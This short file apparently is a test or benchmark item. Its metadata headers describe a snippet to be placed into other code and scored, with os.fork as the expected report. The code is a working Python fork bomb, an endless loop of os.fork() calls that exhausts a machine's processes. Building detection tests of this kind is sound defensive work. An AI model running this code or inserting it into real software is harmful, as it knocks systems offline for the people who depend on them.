# what: every process forks without end
# base: solution
# score: 5
# report: os.fork
# %% place="after mean"
import os

while True:
    os.fork()
